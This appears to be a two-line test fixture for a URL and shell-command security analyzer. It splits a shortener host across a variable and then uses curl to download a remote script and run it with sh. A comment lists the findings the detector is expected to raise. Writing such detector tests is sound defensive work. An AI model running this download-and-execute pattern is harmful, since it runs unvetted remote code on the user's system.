base=https://short
curl -sL "$base.test/q9" -o tool && sh tool # expect: url-analyzer/shortener, url-analyzer/hidden-host, malicious-command/pipe-to-shell
